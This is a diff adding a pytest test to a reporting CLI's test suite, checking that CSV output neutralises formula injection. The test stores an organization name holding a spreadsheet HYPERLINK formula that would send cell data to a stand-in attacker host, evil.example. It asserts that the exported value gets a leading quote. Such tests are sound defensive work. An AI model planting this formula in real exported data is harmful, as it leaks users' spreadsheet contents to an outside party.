@@ -101,3 +101,15 @@ def test_bad_input_is_one_line(args: list[str], message: str, capsys: pytest.Cap
 def test_as_of_before_anything_was_recorded_pays_nothing(url: str, capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["report", "financing", "--year", "2025", "--db", url, "--as-of", "2025-12-31"]) == 0
     assert capsys.readouterr().out.splitlines()[-1] == "total,0,0,0.00"
+
+
+def test_a_name_that_looks_like_a_formula_stays_text(url: str, capsys: pytest.CaptureFixture[str]) -> None:
+    repo = open_repository(url)
+    with repo.unit_of_work(SYSTEM) as uow:
+        team = uow.read("Organization", "team-binnenstad")
+        uow.update({**(team.resource or {}), "name": '=HYPERLINK("https://evil.example/?"&A1,"open")'},
+                   if_match=team.version)
+    repo.close()
+    assert main(["report", "financing", "--year", "2025", "--db", url]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    assert rows[1][0] == '\'=HYPERLINK("https://evil.example/?"&A1,"open")'  # shown as text by a spreadsheet
